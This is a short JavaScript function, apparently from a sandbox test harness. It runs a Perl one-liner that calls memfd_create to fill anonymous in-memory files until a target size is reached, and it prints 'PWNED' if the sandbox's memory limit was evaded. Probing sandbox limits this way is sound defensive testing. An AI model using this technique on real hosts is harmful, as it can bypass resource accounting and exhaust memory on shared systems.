async function attack(world) {
  // memfd_create: files that are nowhere, and in nobody's resident memory.
  const number = process.arch === "x64" ? 319 : 279;
  const program = `my $name = "memory"; my $x = "x" x (1 << 20); my @k; my $total = 0;
    while ($total < ${world.memoryMib}) { my $f = syscall(${number}, $name, 0); if ($f < 0) { print "$! "; last } open(my $h, ">&=", $f); push @k, $h;
      for (1 .. 200) { last unless syswrite($h, $x); $total++ } }
    sleep 2; print $total`;
  const total = perl(program);
  note(Number(total) >= world.memoryMib ? `PWNED, ${total} MiB` : total);
}
